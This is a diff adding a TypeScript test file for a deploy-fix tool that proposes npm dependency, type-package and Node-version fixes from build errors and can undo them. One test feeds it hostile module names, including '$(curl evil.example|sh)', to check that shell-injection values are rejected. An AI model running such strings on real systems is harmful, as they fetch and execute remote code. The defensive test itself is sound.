@@ -0,0 +1,159 @@
+// deploy-fixes.test.ts
+import { describe, test } from "node:test";
+import assert from "node:assert/strict";
+import { chmodSync, existsSync, readFileSync, statSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import {
+  applyDeployFixes,
+  FIX_SNAPSHOT_DIR,
+  proposeDeployFixes,
+  readFixSnapshots,
+  registerDeployFix,
+  undoLastFix,
+  type ProposedFix
+} from "./deploy-fixes.js";
+import { tempProject } from "./test-fixtures/projects.js";
+
+describe("proposeDeployFixes", () => {
+  test("proposes one dependency per missing package, by package name", () => {
+    const root = tempProject({ "package.json": { dependencies: { react: "^18.0.0" } } });
+    const output = [
+      "Error: Cannot find module 'lodash/merge'",
+      "Module not found: Error: Can't resolve '@scope/pkg/sub' in '/vercel/path0/src'",
+      "Error: Cannot find module 'lodash'",
+      "Error: Cannot find module 'react'",
+      "Error: Cannot find module 'node:fs'",
+      "Error: Cannot find module './local'"
+    ].join("\n");
+
+    const proposed = proposeDeployFixes(root, output).filter(item => item.fix.id === "missing-module");
+
+    assert.deepEqual(summaries(proposed), ["Add lodash to dependencies", "Add @scope/pkg to dependencies"]);
+    assert.equal(proposed[0].evidence, "Error: Cannot find module 'lodash/merge'");
+    assert.deepEqual(proposed[0].proposal.files, ["package.json", "package-lock.json"]);
+    assert.equal(proposed[0].proposal.details, "   Runs: npm install lodash");
+  });
+
+  test("never proposes a package name npm would not accept", () => {
+    const root = tempProject({ "package.json": {} });
+    const output = [
+      "Error: Cannot find module 'left-pad;touch /tmp/x'",
+      "Error: Cannot find module '$(curl evil.example|sh)'",
+      "Error: Cannot find module 'Left Pad'"
+    ].join("\n");
+
+    assert.deepEqual(proposeDeployFixes(root, output), []);
+  });
+
+  test("maps scoped packages to their @types name and strips color codes", () => {
+    const root = tempProject({ "package.json": {} });
+    const output = "\x1b[31merror TS7016: Could not find a declaration file for module '@scope/pkg'.\x1b[0m";
+
+    assert.deepEqual(summaries(proposeDeployFixes(root, output)), ["Add @types/scope__pkg to devDependencies"]);
+  });
+
+  test("pins engines.node to a major Vercel supports", () => {
+    const root = tempProject({ "package.json": { engines: { node: "16.x" } } });
+    const proposed = proposeDeployFixes(root, 'Error: Found invalid Node.js Version: "16.x".');
+
+    assert.match(proposed[0].proposal.summary, /^Set engines\.node to "(20|22)\.x" \(was "16\.x"\)$/);
+  });
+
+  test("proposes nothing for failures no fix knows", () => {
+    assert.deepEqual(proposeDeployFixes(tempProject({ "package.json": {} }), "Error: Out of memory"), []);
+  });
+});
+
+describe("applyDeployFixes and undoLastFix", () => {
+  registerDeployFix({
+    id: "test-rewrite",
+    description: "Rewrites two files",
+    signatures: [/REWRITE ME/],
+    propose: ({ projectRoot }) => ({
+      summary: "Rewrite package.json and add notes.txt",
+      files: ["package.json", "notes.txt"],
+      apply: () => {
+        writeFileSync(join(projectRoot, "package.json"), "{}\n");
+        writeFileSync(join(projectRoot, "notes.txt"), "new\n");
+      }
+    })
+  });
+  registerDeployFix({
+    id: "test-workspace-lockfile",
+    description: "Rewrites the workspace lockfile",
+    signatures: [/RELOCK ME/],
+    propose: ({ projectRoot }) => ({
+      summary: "Rewrite the workspace lockfile",
+      files: [join("..", "..", "package-lock.json")],
+      apply: () => writeFileSync(join(projectRoot, "..", "..", "package-lock.json"), "{}\n")
+    })
+  });
+  registerDeployFix({
+    id: "test-broken",
+    description: "Fails halfway",
+    signatures: [/BREAK ME/],
+    propose: ({ projectRoot }) => ({
+      summary: "Write package.json, then fail",
+      files: ["package.json"],
+      apply: () => {
+        writeFileSync(join(projectRoot, "package.json"), "garbage");
+        throw new Error("disk full");
+      }
+    })
+  });
+
+  test("restores every file a fix touched, including its mode, and removes files it created", async () => {
+    const root = tempProject({ "package.json": { name: "demo" } });
+    const original = readFileSync(join(root, "package.json"), "utf-8");
+    chmodSync(join(root, "package.json"), 0o600);
+
+    const applied = await applyDeployFixes(root, proposeDeployFixes(root, "REWRITE ME"));
+    assert.equal(applied.length, 1);
+    assert.equal(readFileSync(join(root, "notes.txt"), "utf-8"), "new\n");
+    assert.equal(readFixSnapshots(root).length, 1);
+    assert.equal(readFileSync(join(root, FIX_SNAPSHOT_DIR, ".gitignore"), "utf-8"), "*\n");
+
+    const undone = await undoLastFix(root);
+    assert.equal(undone?.fix, "test-rewrite");
+    assert.equal(readFileSync(join(root, "package.json"), "utf-8"), original);
+    assert.equal(statSync(join(root, "package.json")).mode & 0o777, 0o600);
+    assert.equal(existsSync(join(root, "notes.txt")), false);
+    assert.deepEqual(readFixSnapshots(root), []);
+    assert.equal(await undoLastFix(root), undefined);
+  });
+
+  test("restores the workspace lockfile a fix in a workspace package changed", async () => {
+    const root = tempProject({
+      "package.json": { private: true, workspaces: ["packages/*"] },
+      "package-lock.json": "{\"lockfileVersion\": 3}\n",
+      "packages/web/package.json": { name: "web" }
+    }, { git: true });
+    const web = join(root, "packages", "web");
+
+    const [missing] = proposeDeployFixes(web, "Error: Cannot find module 'lodash'");
+    assert.deepEqual(missing.proposal.files, ["package.json", join("..", "..", "package-lock.json")]);
+
+    await applyDeployFixes(web, proposeDeployFixes(web, "RELOCK ME"));
+    assert.equal(readFileSync(join(root, "package-lock.json"), "utf-8"), "{}\n");
+
+    assert.equal((await undoLastFix(web))?.fix, "test-workspace-lockfile");
+    assert.equal(readFileSync(join(root, "package-lock.json"), "utf-8"), "{\"lockfileVersion\": 3}\n");
+  });
+
+  test("rolls a failing fix back straight away and keeps no snapshot of it", async () => {
+    const root = tempProject({ "package.json": { name: "demo" } });
+    const original = readFileSync(join(root, "package.json"), "utf-8");
+
+    const applied = await applyDeployFixes(root, proposeDeployFixes(root, "BREAK ME"));
+
+    assert.deepEqual(applied, []);
+    assert.equal(readFileSync(join(root, "package.json"), "utf-8"), original);
+    assert.deepEqual(readFixSnapshots(root), []);
+  });
+});
+
+// Helper functions
+
+function summaries(proposed: ProposedFix[]): string[] {
+  return proposed.map(item => item.proposal.summary);
+}